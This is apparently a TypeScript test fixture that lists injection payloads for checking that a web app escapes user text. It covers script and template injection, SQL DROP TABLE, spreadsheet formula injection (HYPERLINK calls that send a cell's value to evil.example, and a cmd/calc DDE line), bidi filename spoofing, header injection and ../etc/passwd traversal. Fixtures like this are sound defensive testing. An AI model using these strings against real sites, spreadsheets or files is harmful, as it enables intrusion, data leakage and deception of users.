/** Texts that would do something if any part of the site took them for more than text; each marks the window if it runs. */
export const payloads: readonly string[] = [
	'<script>window.pwned=1</script>',
	'</script><script>window.pwned=1</script>',
	'<img src=x onerror="window.pwned=1">',
	'"><svg onload=window.pwned=1>',
	"' onmouseover='window.pwned=1",
	'<a href="javascript:window.pwned=1">x</a>',
	'<style>body{display:none}</style>',
	'<!--<iframe src="javascript:window.pwned=1">',
	'{@html "<b>b</b>"}{window.pwned=1}',
	"{{constructor.constructor('window.pwned=1')()}}${window.pwned=1}",
	'{a|rich}{b|text}',
	']]><script>window.pwned=1</script><![CDATA[',
	'&lt;script&gt;&#60;b&#62;&amp;',
	"x'; DROP TABLE report; --",
	'=HYPERLINK("http://evil.example/?"&A1,"开")',
	"+1+cmd|' /C calc'!A0",
	'-2+3+cmd',
	'@SUM(1+1)*cmd',
	'＝HYPERLINK("http://evil.example/","开")',
	'－2+3+cmd',
	' \u3000=HYPERLINK("http://evil.example/","开")',
	'\u200b＋1+cmd',
	'"=1+1";=1+1',
	'\u202egpj.exe',
	'甲\u2067乙\u2069\u200f.57%收行执',
	'控\u0000\u0001\u0008制\u001b[2J',
	'半\ud800个字\ufffe',
	'很长的名称'.repeat(60),
	'constructor',
	'toString',
	'%3Cscript%3E%00%0d%0aSet-Cookie:a=b',
	'__proto__',
	'../../../etc/passwd'
];

/** One of them, by any number. */
export const payload = (index: number): string => payloads[index % payloads.length] ?? '';
